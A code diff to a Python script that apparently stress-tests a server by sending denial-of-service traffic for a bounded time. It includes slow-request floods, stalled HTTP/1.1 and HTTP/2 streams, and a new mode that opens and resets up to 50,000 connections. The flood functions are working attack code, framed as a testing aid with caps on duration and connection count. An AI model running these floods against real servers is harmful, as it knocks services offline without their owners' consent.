@@ -1,4 +1,7 @@
-"""What attackers send, against one server and for a bounded time: `floods.py FLOOD HOST PORT SECONDS`."""
+"""What attackers send, against one server and for a bounded time: `floods.py FLOOD HOST PORT SECONDS`.
+
+`floods.py connects HOST PORT COUNT` connects and resets so often instead.
+"""
 
 import contextlib
 import itertools
@@ -10,15 +13,16 @@ import sys
 import threading
 import time
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 
 CONNECTIONS = 4
 """That each flood uses at once: enough to show, and a bound on what this program does."""
-CROWD = 500
+CROWD = 250
 """Connections of a flood that consists of connections."""
 BATCH = 32768
 """Bytes handed to the kernel at once."""
-MOST_SECONDS = 60.0
+MOST_SECONDS = 120.0
+MOST_CONNECTS = 50_000
 
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
 WINDOW_UPDATE, CONTINUATION = 8, 9
@@ -221,15 +225,18 @@ def _drip(waiting: selectors.BaseSelector, drip: bytes) -> None:
             key.fileobj.send(drip)
 
 
-def vanish(target: Target) -> None:
-    """Connect and reset, over and over, half of the time after a word."""
-    for number in itertools.count():
-        if target.over:
-            return
-        with contextlib.suppress(OSError), target.dial() as peer:
-            if number % 2:
-                peer.sendall(b"GET /1 HTTP/1.1\r\n")
+WORDS = (b"", b"GET /1 HTTP/1.1\r\n", b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n", PREFACE, b"\0")
+
+
+def vanish(target: Target, most: int = MOST_CONNECTS) -> int:
+    """Connect and reset, over and over, some with a word before, and return how often."""
+    made = 0
+    while made < most and not target.over:
+        with contextlib.suppress(TimeoutError), target.dial() as peer:
+            made += 1
+            peer.sendall(WORDS[made % len(WORDS)])
             peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    return made
 
 
 READERS = 1000
@@ -248,7 +255,7 @@ WIDE_OPEN = (
 
 
 def stall(opening: bytes, connections: int, target: Target) -> None:
-    """Ask for large bodies and never read them, until standard input ends."""
+    """Ask for large bodies and never read them, until the time is up."""
     with contextlib.ExitStack() as held:
         for _ in range(connections):
             peer = held.enter_context(socket.socket(target.family, socket.SOCK_STREAM))
@@ -256,10 +263,10 @@ def stall(opening: bytes, connections: int, target: Target) -> None:
             peer.connect((target.host, target.port))
             peer.sendall(opening)
         print("asked", flush=True)
-        sys.stdin.read()
+        threading.Event().wait(target.until - time.monotonic())
 
 
-CROWDS: dict[str, Callable[[Target], None]] = {
+CROWDS: dict[str, Callable[[Target], object]] = {
     "silence": lambda target: crowd(b"", b"", target),
     "slow-heads": lambda target: crowd(b"GET / HTTP/1.1\r\nHost: server\r\n", b"x", target),
     "slow-bodies": lambda target: crowd(
@@ -268,6 +275,7 @@ CROWDS: dict[str, Callable[[Target], None]] = {
     "slow-prefaces": lambda target: crowd(b"", PREFACE[:1], target),
     "vanishing": vanish,
     "stalled-http1": lambda target: stall(LARGE_GET, READERS, target),
+    "stalled-few-streams": lambda target: stall(GREETING + LARGE_GETS, 1, target),
     "stalled-streams": lambda target: stall(GREETING + LARGE_GETS, READERS // STREAMS, target),
     "stalled-wide-streams": lambda target: stall(
         WIDE_OPEN + LARGE_GETS, READERS // STREAMS, target
@@ -276,7 +284,12 @@ CROWDS: dict[str, Callable[[Target], None]] = {
 
 
 def main(name: str, host: str, port: str, seconds: str) -> None:
-    target = Target(host, int(port), time.monotonic() + min(float(seconds), MOST_SECONDS))
+    amount = float(seconds)
+    target = Target(host, int(port), time.monotonic() + min(amount, MOST_SECONDS))
+    if name == "connects":
+        unhurried = replace(target, until=time.monotonic() + 2 * MOST_SECONDS)
+        print(vanish(unhurried, min(int(amount), MOST_CONNECTS)))
+        return
     if name in CROWDS:
         CROWDS[name](target)
         return
